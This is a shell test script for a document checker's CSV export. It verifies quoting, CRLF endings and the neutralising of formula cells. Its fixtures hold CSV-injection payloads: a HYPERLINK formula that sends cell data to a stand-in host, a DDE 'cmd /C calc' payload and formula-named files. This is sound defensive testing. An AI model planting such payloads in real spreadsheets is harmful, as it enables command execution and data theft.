#!/bin/bash
# `check --format csv`: one row per finding for spreadsheets. The golden files
# (tests/golden/check-csv) pin the rows; CMake drops the CR of CRLF when it
# captures output, so the bytes are checked here: a UTF-8 byte order mark, a
# header row, CRLF after every record, RFC 4180 quoting (python's csv module
# reads every row back into 13 fields equal to the JSON report's values,
# the PDF page last: empty for other formats, the page of a PDF's finding),
# and no cell that a spreadsheet would run as a formula: a cell starting with
# = + - @ tab or CR, or their full-width forms, starts with an apostrophe —
# from the filing's text, the rule message and the file name alike. An
# unreadable file is a row (severity error, category unreadable) and the
# exit status is the other formats'; a rule skipped on a pattern limit is an
# "incomplete" row.
#
# Env (set by ctest): FL_BIN, SRC, TMPDIR_BASE.
set -u

. "${SRC:?SRC not set}/tests/lib/common.sh"
cd "$SRC" || exit 1

# A test rule whose message is the match itself, so messages can start with
# anything a filing holds.
cat >"$SCRATCH/echo.xml" <<'EOF'
<?xml version="1.0" encoding="UTF-8"?>
<ruleset id="echo">
  <rule id="TE01" severity="warning" category="test" basis="第一条" basis-doc="《测试办法》" class="quality">
    <message>{match}</message>
    <forbid match="^\s*[=+@＝＋－＠-][^\n]*|^;[^\n]*|^\x{1B}[^\n]*"/>
    <example type="fail">=1+1</example>
    <example type="pass">正文</example>
  </rule>
</ruleset>
EOF
printf '# 一、概况\n\n=HYPERLINK("http://example.invalid/?d="&A1,"详见")\n\n+86 0512 6688 0000\n\n-\t施工期扬尘\n\n@SUM(1+1)*cmd|'"'"' /C calc'"'"'!A0\n\n＝１＋１\n\n－１５℃\n\n;=1+1;\n\n\033[31m=红色\n\n正文，不以公式开头。\n' >"$SCRATCH/=cmd|calc.md"
cp fixtures/check/residue.md "$SCRATCH/@报告;v2.md"
cp fixtures/csv/formula-cells.md "$SCRATCH/"
# relative names, as a batch is usually run: the file name starts the cell
INPUTS=("=cmd|calc.md" "@报告;v2.md" formula-cells.md missing.md)
ARGS=(--ruleset echo.xml --select TE01,DOC001)
(cd "$SCRATCH" && "$FL_BIN" check -f json "${ARGS[@]}" "${INPUTS[@]}" >r.json 2>/dev/null)
want=$?
(cd "$SCRATCH" && "$FL_BIN" check -f csv "${ARGS[@]}" "${INPUTS[@]}" >r.csv 2>err)
rc=$?
[ "$want" -eq 2 ] || fail json-exit "json exit $want, want 2 (an unreadable input)"
[ "$rc" -eq "$want" ] && ok exit || fail exit "csv exit $rc, json exit $want"
grep -q "missing.md" "$SCRATCH/err" && ok stderr || fail stderr "the unreadable file is not named on stderr"

python3 - "$SCRATCH/r.csv" "$SCRATCH/r.json" <<'EOF' && ok rows || fail rows "see above"
import csv, io, json, sys
raw = open(sys.argv[1], "rb").read()
assert raw.startswith(b"\xef\xbb\xbf"), "no byte order mark"
assert raw.endswith(b"\r\n"), "the last record does not end in CRLF"
text = raw[3:].decode("utf-8")
rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
# every record ends in CRLF: count the records the reader saw against the CRLFs outside quotes
ends, inq = 0, False
for i, ch in enumerate(text):
    if ch == '"': inq = not inq
    elif not inq and ch == "\n":
        assert i and text[i - 1] == "\r", f"bare LF at byte {i}"
        ends += 1
assert ends == len(rows), (ends, len(rows))
head = ["file", "line", "column", "rule", "severity", "class", "category", "message", "basis", "section", "excerpt", "judged_as_of", "page"]
assert rows[0] == head, rows[0]
assert all(len(r) == 13 for r in rows), [r for r in rows if len(r) != 13][:2]
FORMULA = tuple("=+-@\t\r＝＋－＠")
for r in rows[1:]:
    for c in r:
        assert not c.startswith(FORMULA), f"formula cell {c!r}"
def unprefix(c): return c[1:] if c.startswith("'") and c[1:].startswith(FORMULA) else c
run = json.load(open(sys.argv[2]))
want = []
for f in run["files"]:
    if f["status"] != "ok":
        want.append([f["path"], "", "", "", "error", "", "unreadable", f["error"]["message"].split(": ", 1)[1], "", "", "", "", ""])
        continue
    for x in f["findings"]:
        want.append([f["path"], str(x["location"]["line"]), str(x["location"]["column"]), x["rule"], x["severity"], x["class"],
                     x["category"], x["message"], x["basis"], x["location"]["section"], x["excerpt"], f["judged_as_of"],
                     str(x["location"].get("page", ""))])
got = [[unprefix(c) for c in r] for r in rows[1:]]
want = [[c.replace("\x1b", "") for c in r] for r in want]  # control characters are dropped
assert len(got) == len(want), (len(got), len(want))
for g, w in zip(got, want):
    assert g == w, (g, w)
starts = {r[10][:2] for r in rows[1:] if r[3] == "TE01"}
for s in ("'=", "'+", "'-", "'@", "'＝", "'－"):
    assert s in starts, (s, starts)
assert any(r[0].startswith("'=") for r in rows[1:]) and any(r[0].startswith("'@") for r in rows[1:]), "file names not prefixed"
assert any(r[10] == "正文，不以公式开头。" for r in rows[1:]) is False  # no finding there
assert "TE01" in {r[3] for r in rows} and "DOC001" in {r[3] for r in rows}
EOF

# quoting: fields with ; , " and line breaks are quoted; plain ones are not
python3 - "$SCRATCH/r.csv" <<'EOF' && ok quoting || fail quoting "see above"
raw = open(__import__("sys").argv[1], "rb").read().decode("utf-8-sig")
assert '"\'@报告;v2.md"' in raw or "\"'@报告;v2.md\"" in raw, "a file name with ; is not quoted"
assert '"\'=HYPERLINK(""http://example.invalid/?d=""&A1,""详见"")"' in raw, "quotes not doubled"
assert "\nformula-cells.md,4,10,DOC001,error,quality,template-residue," in raw.replace("\r\n", "\n")
assert "\x1b" not in raw
EOF

# a rule skipped on a pattern limit is an "incomplete" row
"$FL_BIN" check -f csv --no-default-rulesets --ruleset fixtures/rulesets/backtrack.xml fixtures/check/long-paragraph.md \
    >"$SCRATCH/limit.csv" 2>/dev/null
rc=$?
python3 - "$SCRATCH/limit.csv" <<'EOF' && [ "$rc" -eq 2 ] && ok incomplete || fail incomplete "exit $rc; see above"
import csv, io, sys
rows = list(csv.reader(io.StringIO(open(sys.argv[1], encoding="utf-8-sig", newline="").read())))
inc = [r for r in rows[1:] if r[6] == "incomplete"]
assert inc and inc[0][4] == "warning" and inc[0][3] and "limit" in inc[0][7], rows
EOF

# an invalid UTF-8 file name is repaired, not written raw
bad=$(printf '%s/bad-\xff\xfe.md' "$SCRATCH")
cp fixtures/check/residue.md "$bad"
"$FL_BIN" check -f csv --select DOC001 "$bad" >"$SCRATCH/bad.csv" 2>/dev/null
python3 -c 'import sys; t = open(sys.argv[1], "rb").read().decode("utf-8"); assert "\ufffd" in t' "$SCRATCH/bad.csv" \
    && ok bad-utf8 || fail bad-utf8 "the file name is not valid UTF-8 in the CSV"

# a PDF: the page column holds the page of each finding
if pdf_reader_built; then
    PA=(--no-config --no-default-rulesets --ruleset fixtures/pdf/page-demo.xml fixtures/pdf/eia-form-typed.pdf)
    "$FL_BIN" check -f csv "${PA[@]}" >"$SCRATCH/pdf.csv" 2>/dev/null
    "$FL_BIN" check -f json "${PA[@]}" >"$SCRATCH/pdf.json" 2>/dev/null
    python3 - "$SCRATCH/pdf.csv" "$SCRATCH/pdf.json" <<'EOF' && ok pdf-page || fail pdf-page "the page column is not the JSON's page"
import csv, io, json, sys
rows = list(csv.reader(io.StringIO(open(sys.argv[1], encoding="utf-8-sig", newline="").read())))[1:]
pages = [str(x["location"]["page"]) for f in json.load(open(sys.argv[2]))["files"] for x in f["findings"]]
assert rows and len(rows) == len(pages), (len(rows), len(pages))
assert [r[12] for r in rows] == pages and all(p.isdigit() and int(p) > 0 for p in pages), [r[12] for r in rows]
EOF
else
    echo "skip: no PDF reader in this build: pdf-page"
fi

# no findings: the header alone
"$FL_BIN" check -f csv --select DOC001 fixtures/check/clean.md >"$SCRATCH/clean.csv" 2>/dev/null
[ "$(od -An -c "$SCRATCH/clean.csv" | tr -d ' \n')" = "357273277file,line,column,rule,severity,class,category,message,basis,section,excerpt,judged_as_of,page\r\n" ] \
    && ok header-only || fail header-only "$(od -c "$SCRATCH/clean.csv" | head -3)"
finish
